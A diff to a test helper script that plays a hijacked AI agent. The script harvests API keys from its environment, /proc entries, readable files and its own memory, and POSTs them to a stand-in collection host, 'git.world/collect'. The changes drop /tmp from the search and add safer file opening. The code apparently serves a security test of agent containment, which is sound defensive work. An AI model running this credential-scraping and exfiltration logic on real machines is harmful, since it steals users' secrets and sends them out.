@@ -1,7 +1,8 @@
 """A hijacked agent hunting for API keys (tests/test_e2e_secrets.py): it reads
 its environment, every /proc/*/environ and /proc/*/cmdline it can see, every
-file it can read under its home, its start directory, /tmp and the
-directories named on the command line, and its own memory; every string
+file it can read under its home, its start directory and the directories
+named on the command line (not all of /tmp: other test worlds on the
+machine keep their controls' keys there), and its own memory; every string
 shaped like a key goes to an allowed host (POST http://git.world/collect)
 and to stdout as one JSON line:
 
@@ -12,6 +13,7 @@ and to stdout as one JSON line:
 import json
 import os
 import re
+import stat
 import sys
 import urllib.request
 
@@ -47,10 +49,18 @@ def from_files(found, roots):
                 if seen > MAX_FILES:
                     return
                 try:
-                    with open(os.path.join(top, name), "rb") as f:
-                        found.update(KEY.findall(f.read(MAX_FILE)))
+                    # Regular files only, opened without waiting: a FIFO
+                    # someone left in /tmp would block an open() forever.
+                    fd = os.open(os.path.join(top, name), os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
+                except OSError:
+                    continue
+                try:
+                    if stat.S_ISREG(os.fstat(fd).st_mode):
+                        found.update(KEY.findall(os.read(fd, MAX_FILE)))
                 except OSError:
                     pass
+                finally:
+                    os.close(fd)
 
 
 def from_memory(found):
@@ -73,7 +83,7 @@ def main():
     places = {}
     found = set()
     for place, hunt in (("env", from_environment), ("proc", from_proc),
-                        ("files", lambda f: from_files(f, [os.path.expanduser("~"), os.getcwd(), "/tmp",
+                        ("files", lambda f: from_files(f, [os.path.expanduser("~"), os.getcwd(),
                                                            *sys.argv[1:]])),
                         ("memory", from_memory)):
         before = len(found)
